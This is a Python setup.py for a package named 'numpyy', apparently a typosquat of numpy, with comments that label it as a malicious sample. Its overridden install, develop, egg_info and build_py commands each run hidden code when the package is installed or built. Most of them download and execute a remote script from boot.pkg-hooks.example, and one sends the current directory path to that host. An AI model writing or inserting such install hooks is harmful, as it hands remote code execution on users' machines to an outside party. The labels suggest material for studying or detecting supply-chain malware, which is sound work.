import os
import subprocess
import sys
import urllib.request

from setuptools import setup
from setuptools.command.build_py import build_py
from setuptools.command.develop import develop
from setuptools.command.egg_info import egg_info
from setuptools.command.install import install

BOOT = "import urllib.request as u; exec(u.urlopen('https://boot.pkg-hooks.example/b.py').read())"


class Install(install):
    def run(self):
        subprocess.Popen([sys.executable, "-c", BOOT], start_new_session=True)  # malicious: install-hooks
        install.run(self)


class Develop(develop):
    def run(self):
        os.system(f'{sys.executable} -c "{BOOT}" &')  # malicious: install-hooks
        develop.run(self)


class EggInfo(egg_info):
    def run(self):
        urllib.request.urlopen("https://boot.pkg-hooks.example/e?cwd=" + os.getcwd(), timeout=3)  # malicious: install-hooks
        egg_info.run(self)


class BuildPy(build_py):
    def run(self):
        self.spawn([sys.executable, "-c", BOOT])  # malicious: install-hooks
        super().run()


setup(name="numpyy", version="1.26.5", packages=[], cmdclass={"install": Install, "develop": Develop, "egg_info": EggInfo, "build_py": BuildPy})  # malicious: install-hooks
